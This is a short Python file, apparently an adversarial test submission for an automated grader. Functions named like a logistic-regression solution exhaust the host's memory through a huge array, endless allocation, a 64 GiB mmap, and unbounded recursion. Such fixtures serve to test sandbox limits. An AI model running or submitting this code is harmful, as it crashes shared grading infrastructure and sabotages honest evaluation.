"""Category: memory. Attack: exhaust the grading host's memory: one huge allocation, gradual
growth, an anonymous mmap of 64 GiB, and infinitely deep recursion after
sys.setrecursionlimit(10**6) (a C stack overflow: segmentation fault)."""
import mmap
import sys

import numpy as np

HOARD = []


def sigmoid(z):
    big = np.ones((200_000, 200_000))
    return big[0, :0]


def predict_proba(X, w, b):
    while True:
        HOARD.append(np.ones(1 << 22))


def bce_loss(X, y, w, b):
    m = mmap.mmap(-1, 64 << 30)
    m[::4096] = b"x" * ((64 << 30) // 4096)
    return 0.0


def _deep(n):
    return _deep(n + 1) + 1


def grad_logits(X, y, w, b):
    sys.setrecursionlimit(10**6)
    return _deep(0)


def gradients(X, y, w, b):
    return np.zeros(X.shape[1]), 0.0
